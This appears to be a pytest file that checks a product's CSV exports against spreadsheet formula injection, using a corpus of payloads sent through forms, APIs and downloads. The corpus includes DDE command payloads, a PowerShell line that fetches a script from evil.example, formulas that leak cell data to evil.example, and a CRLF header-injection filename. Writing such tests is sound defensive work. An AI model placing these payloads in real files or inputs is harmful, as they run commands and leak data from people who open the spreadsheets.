"""Every CSV the product exports is safe to open in a spreadsheet: the one writer
(widget/core/export.py) and a formula-payload corpus (OWASP's CSV-injection payloads
behind NUL, spaces, tab, CR, NBSP and invisible characters, in fullwidth and other
look-alike forms, and text with ø and emoji that must come out unchanged) run through
the cell function, then through every route in the URL map that answers text/csv: the
payloads go in through the product's own forms and APIs where it takes them (straight
into the database where it does not, as an older version may have stored them), the
owner downloads the CSV over real HTTP, and Python's csv module reads it back."""
from __future__ import annotations

import csv
import io
import re
import sys
import unicodedata
from datetime import date, datetime, timedelta, timezone

from sqlalchemy import select

from widget.core import export
from widget.dashboard import ledger as dashboard_ledger
from widget.models import Coupon, Grant, Subscriber, Widget
from widget.sites import keys
from widget.subscribers import contacts

from .helpers.dashboard import gifts_path, make_gift
from .helpers.gifts import rating_link
from .helpers.http import csrf_post

TRIGGERS = frozenset("=+-@")
CONTROLS = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]")  # Cc but tab, LF, CR

FORMULAS = [
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+2+5+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    "=cmd|'/C powershell IEX(wget evil.example/s.ps1)'!A0",
    '=IMPORTXML(CONCAT("https://evil.example/?v=",A1),"//a")',
    "=1+1",
]
# Characters a spreadsheet may skip, or an import may trim, before it reads a formula.
LEADS = ["", "\0", " ", "\t", "\r", "\n", "\u00a0", "\u3000", "\u2003", "\u200b", "\ufeff",
         "\x1b", " \0\t "]
# What NFKC turns into a trigger: fullwidth, small, superscript and subscript forms.
LOOKALIKES = {"=": "＝﹦⁼₌", "+": "＋﹢⁺₊", "-": "－﹣", "@": "＠﹫"}
SAFE = ["Ørsted 🍞", "ø", "👩\u200d👩\u200d👧 Grüße", 'say "hi", then go', "two\nlines\tand a tab",
        "a=b+c", "x-1@home", "5", "100 %", "¨=x", "\u2212 5"]
SAFE_LEADS = ["", "\0", " ", "\u00a0", "\n", "\u200b"]


def corpus() -> list[tuple[str, bool]]:
    """(text, whether the writer must put a ' in front), no text twice."""
    found = [(lead + f, True) for f in FORMULAS for lead in LEADS]
    found += [(lead + like + f[1:], True) for f in FORMULAS for like in LOOKALIKES[f[0]]
              for lead in ("", " ", "\0", "\u00a0")]
    found += [(lead + s, False) for s in SAFE for lead in SAFE_LEADS]
    found += [(lead + s, True) for s in SAFE[:3] for lead in ("\t", "\r", "\0\t")]
    return list(dict(found).items())


CORPUS = corpus()


def expected(text: str, quoted: bool) -> str:
    """The cell as written: control characters gone, a ' in front of a formula."""
    return ("'" if quoted else "") + CONTROLS.sub("", text)


def runs(cell: str) -> bool:
    """Would a spreadsheet (or an import that trims) start a formula here? Read apart
    from the writer's own rule: the first character, then the first one left after
    whitespace, invisible and control characters, raw and after NFKC."""
    if cell[:1] in ("\t", "\r"):
        return True
    for text in (cell, unicodedata.normalize("NFKC", cell)):
        rest = "".join(c for c in text if not c.isspace()
                       and unicodedata.category(c) not in ("Cc", "Cf"))
        if rest[:1] in TRIGGERS:
            return True
    return False


def test_the_corpus_through_the_cell_function():
    assert len(CORPUS) > 200
    for text, quoted in CORPUS:
        cell = export.cell(text)
        assert cell == expected(text, quoted), (text, cell)
        assert cell.startswith("'") or not runs(cell), (text, cell)
        assert not CONTROLS.search(cell)
    for text in SAFE:  # unchanged, ø, emoji (their ZWJ too) and all
        assert export.cell(text) == text


def test_the_corpus_through_the_writer_reads_back_cell_for_cell():
    batches = [[(text, len(text))] for text, _ in CORPUS]
    written = "".join(export.lines(("text", "length"), batches))
    assert written.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(written.removeprefix("\ufeff"), newline="")))
    assert rows[0] == ["text", "length"]
    assert rows[1:] == [[expected(t, q), str(len(t))] for t, q in CORPUS]


def test_every_character_nfkc_makes_a_trigger_is_one():
    looks = [chr(i) for i in range(sys.maxunicode + 1) if not 0xD800 <= i <= 0xDFFF
             and unicodedata.normalize("NFKC", chr(i))[:1] in TRIGGERS]
    assert {"＝", "＋", "－", "＠", "﹦", "⁼"} < set(looks)
    for char in looks:
        assert export.neutralise(char + "1+1") == "'" + char + "1+1"
    blanks = [chr(i) for i in range(sys.maxunicode + 1) if chr(i).isspace()
              or unicodedata.category(chr(i)) in ("Cc", "Cf")]
    for blank in blanks:
        assert export.neutralise(blank + "=1+1").startswith("'"), hex(ord(blank))


def test_the_old_rule_let_these_through():
    for text in ("\0=1+1", " =1+1", "\u00a0=1+1", "＝1+1", "\u200b@SUM(A1)"):
        assert export.neutralise(text).startswith("'")


def test_numbers_stay_numbers_and_text_that_looks_like_one_is_text():
    for number in (0, 5, -1, 2.5, -0.25, 1e-05, 10**20):
        assert export.cell(number) == number
    assert [export.cell(v) for v in ("-1", "+1", float("-inf"), float("nan"))] == [
        "'-1", "'+1", "'-inf", "nan"]
    written = "".join(export.lines(("n",), [[(-1,), (2.5,), ("-1",)]]))
    assert written == "\ufeffn\r\n-1\r\n2.5\r\n'-1\r\n"


def test_times_in_utc_with_a_z_and_days_as_dates():
    moment = datetime(2025, 1, 31, 9, 30, 5, 123456, tzinfo=timezone.utc)
    assert export.cell(moment) == "2025-01-31T09:30:05Z"
    assert export.cell(moment.replace(tzinfo=None)) == "2025-01-31T09:30:05Z"  # SQLite's
    oslo = moment.astimezone(timezone(timedelta(hours=1)))
    assert export.cell(oslo) == "2025-01-31T09:30:05Z"
    assert export.iso("2025-01-31 09:30:05.123456") == "2025-01-31T09:30:05Z"
    assert export.cell(date(2025, 1, 31)) == "2025-01-31"
    assert export.cell(None) == "" and export.iso(None) == ""


def test_the_writer_streams_one_chunk_a_batch_fetching_only_when_asked():
    seen = []

    def batches():
        for n in (1, 2):
            seen.append(f"fetched {n}")
            yield [(f"row {n}",)]
    for chunk in export.lines(("h",), batches()):
        seen.append(chunk)
    assert seen == ["fetched 1", "\ufeffh\r\nrow 1\r\n", "fetched 2", "row 2\r\n"]
    assert list(export.lines(("h", "=x"), [])) == ["\ufeffh,'=x\r\n"]


def test_file_names_in_content_disposition():
    assert export.disposition("ledger-g_Ab-9.csv") == 'attachment; filename="ledger-g_Ab-9.csv"'
    assert export.disposition("Bäckerei Ørsted 🍞.csv") == (
        'attachment; filename="Backerei _rsted _.csv"; '
        "filename*=UTF-8''B%C3%A4ckerei%20%C3%98rsted%20%F0%9F%8D%9E.csv")
    hostile = export.disposition('../a"b\r\nSet-Cookie: x=1\\c\u2028.csv')
    assert hostile.isascii() and not re.search(r"[\r\n\\/]", hostile)
    assert hostile.startswith('attachment; filename="') and hostile.count('"') == 2
    assert export.disposition(" . ") == 'attachment; filename="export.csv"'


# Every CSV route, over real HTTP ------------------------------------------------------

# The text/csv routes this module puts the corpus into; a new one must join it.
DRIVEN = {"dashboard.ledger_csv", "dashboard.contacts_csv", "owner_api.contacts_csv",
          "dashboard.stats_csv"}
# Query strings that make a route's CSV a row per payload (What works: one per widget).
VIEWS = {"dashboard.stats_csv": "?by=widget"}
# Email heads a sign-up takes: RFC 5322 allows = + - | ' ! in the part before the @.
EMAIL_HEADS = ["=cmd|'/Ccalc'!A0", "+1+1", "-2+3", "=1+1", "reader"]
CODE_HEADS = ["+2+5+cmd", "-2+3+cmd", "+SUM", "-A1"]  # what a coupon import takes
WIDGET_FORM = {"is_live": "y", "layout": "inline", "lang": "", "trigger_match": "any",
               "quiet_days_after_close": "14", "quiet_days_after_signup": "365",
               "kind": "gift", "gift_mode": "gated"}


def test_every_csv_route_neutralises_the_corpus(ann, app, make_client, make_site, query,
                                                monkeypatch):
    site = make_site("ann@example.com", double_opt_in=False)
    on_postgres = query(lambda s: s.get_bind().dialect.name) == "postgresql"

    def storable(text: str) -> str:
        return text.replace("\0", "") if on_postgres else text  # PostgreSQL text holds no NUL

    # A coupon gift whose codes the owner imports, each starting with + or -.
    gift = make_gift(ann, query, site, "coupon")
    path = f"{gifts_path(site)}/{gift}"
    codes = [f"{CODE_HEADS[n % len(CODE_HEADS)]}.{n}" for n in range(len(CORPUS))]
    resp = csrf_post(ann, f"{path}/coupons/import", {"codes": "\n".join(codes)}, page=path)
    assert resp.status_code == 302, resp.text

    # One gated gift widget a payload: the first made with the dashboard's form.
    new = f"/dashboard/sites/{site}/widgets/new"
    first = CORPUS[0][0]
    resp = csrf_post(ann, new, {**WIDGET_FORM, "name": first, "gift_id": gift})
    assert resp.status_code == 302, resp.text

    def add_widgets(s):
        made = [s.scalar(select(Widget.id).where(Widget.name == first))]
        for text, _ in CORPUS[1:]:
            row = Widget(site_id=site, name=storable(text), kind="gift", gift_id=gift,
                         gift_mode="gated", triggers=[], is_live=True)
            s.add(row)
            s.flush()
            made.append(row.id)
        s.commit()
        return made
    widgets = query(add_widgets)

    # Each payload signs up as a visitor's name, then rates the gift with it as comment.
    visitor = make_client()
    emails = []
    for n, (text, _) in enumerate(CORPUS):
        email = f"{EMAIL_HEADS[n % len(EMAIL_HEADS)]}.{n}@example.com"
        body = {"email": email, "consent": True, "widget": widgets[n], "name": text}
        resp = visitor.post(f"/api/v1/sites/{site}/subscriptions", json=body)
        if resp.status_code == 422:  # a name the sign-up refuses (a control character)
            del body["name"]
            resp = visitor.post(f"/api/v1/sites/{site}/subscriptions", json=body)
        assert resp.status_code == 200, (text, resp.text)
        emails.append(email)
    grant_of = dict(query(lambda s: s.execute(select(Subscriber.email, Grant.id).join(
        Grant, Grant.subscriber_id == Subscriber.id)).all()))
    grant_ids = [grant_of[email] for email in emails]
    for grant_id, (text, _) in zip(grant_ids, CORPUS):
        page = rating_link(app, query, grant_id, 5).split("?")[0]
        resp = visitor.post(page, data={"rating": "5", "comment": text})
        assert resp.status_code in (200, 422), (text, resp.status_code)

    # What the product refused or trimmed goes in as written, as older data may hold it.
    def store_as_written(s):
        for grant_id, (text, _) in zip(grant_ids, CORPUS):
            grant = s.get(Grant, grant_id)
            grant.subscriber.name = storable(text)
            grant.rating, grant.comment = 5, storable(text)
        s.commit()
    query(store_as_written)

    # Every GET route, as the owner with real ids: which answer text/csv?
    fill = {"site_id": site, "gift_id": gift, "widget_id": widgets[0],
            "subscriber_id": str(query(lambda s: s.scalar(select(Subscriber.id)))),
            "message_id": "1", "token": "x", "ticket": "x", "code": "x", "network": "x",
            "name": "embed.js", "webhook_id": "1", "import_id": "1", "service_name": "mailchimp",
            "letter_id": "1"}
    monkeypatch.setattr(dashboard_ledger, "CSV_BATCH", 7)  # many batches, a rollback each
    monkeypatch.setattr(contacts, "EXPORT_BATCH", 7)
    key = query(lambda s: keys.create(s, site, "read", "csv").key)
    exports = {}
    for rule in app.url_map.iter_rules():
        if "GET" not in rule.methods:
            continue
        assert rule.arguments <= set(fill), f"teach this test to fill {rule.rule}"
        url = re.sub(r"<(?:\w+:)?(\w+)>", lambda m: fill[m.group(1)], rule.rule)
        url += VIEWS.get(rule.endpoint, "")
        if rule.endpoint.startswith("owner_api."):  # the owner API: with the site's key
            resp = ann.get(url, headers={"Authorization": f"Bearer {key}"})
        else:
            resp = ann.get(url)
        if resp.headers.get("Content-Type", "").startswith("text/csv") or url.endswith(".csv"):
            exports[rule.endpoint] = resp
    assert set(exports) == DRIVEN

    for endpoint, resp in exports.items():
        assert resp.status_code == 200, endpoint
        assert resp.headers["Content-Type"] == "text/csv; charset=utf-8"
        assert resp.headers["Cache-Control"] == "no-store"
        assert resp.headers["X-Content-Type-Options"] == "nosniff"
        assert resp.headers["Content-Disposition"].startswith('attachment; filename="')
        assert resp.content.startswith("\ufeff".encode())
        rows = list(csv.reader(io.StringIO(resp.content.decode("utf-8-sig"), newline="")))
        assert len(rows) == 1 + len(CORPUS), endpoint
        cells = [cell for row in rows for cell in row]
        formulas = [cell for cell in cells if not cell.startswith("'") and runs(cell)]
        assert not formulas, (endpoint, len(formulas), formulas[:5])
        controls = [cell for cell in cells if CONTROLS.search(cell)]
        assert not controls, (endpoint, len(controls), controls[:5])

    # The ledger carried every payload in every field it prints, each as expected.
    rows = list(csv.DictReader(io.StringIO(
        exports["dashboard.ledger_csv"].content.decode("utf-8-sig"), newline="")))
    stored = dict(query(lambda s: s.execute(select(Grant.id, Coupon.code).join(
        Coupon, Coupon.grant_id == Grant.id)).all()))
    by_email = {row["email"].removeprefix("'"): row for row in rows}
    for n, (grant_id, email, (text, quoted)) in enumerate(zip(grant_ids, emails, CORPUS)):
        row = by_email[email]
        want = expected(storable(text), quoted)
        assert (row["name"], row["widget"], row["comment"]) == (want, want, want), text
        assert row["email"] == ("" if n % len(EMAIL_HEADS) == 4 else "'") + email
        assert row["code"] == "'" + stored[grant_id]
        assert (row["rating"], row["downloads"], row["status"]) == ("5", "", "Active")
        assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ", row["given_at"])

    # The contacts carried every payload in the name and the widget's name, the same
    # over the owner API as on the dashboard.
    assert exports["owner_api.contacts_csv"].content == exports["dashboard.contacts_csv"].content
    rows = list(csv.DictReader(io.StringIO(
        exports["dashboard.contacts_csv"].content.decode("utf-8-sig"), newline="")))
    by_email = {row["email"].removeprefix("'"): row for row in rows}
    for n, (email, (text, quoted)) in enumerate(zip(emails, CORPUS)):
        row = by_email[email]
        want = expected(storable(text), quoted)
        assert (row["name"], row["widget"]) == (want, want), text
        assert row["email"] == ("" if n % len(EMAIL_HEADS) == 4 else "'") + email
        assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ", row["signed_up"])

    # What works by widget: each payload as a widget's name, each widget's confirmed
    # sign-up counted once.
    rows = list(csv.DictReader(io.StringIO(
        exports["dashboard.stats_csv"].content.decode("utf-8-sig"), newline="")))
    assert sorted(row["widget"] for row in rows) == sorted(
        expected(storable(text), quoted) for text, quoted in CORPUS)
    assert {row["confirmed"] for row in rows} == {"1"}
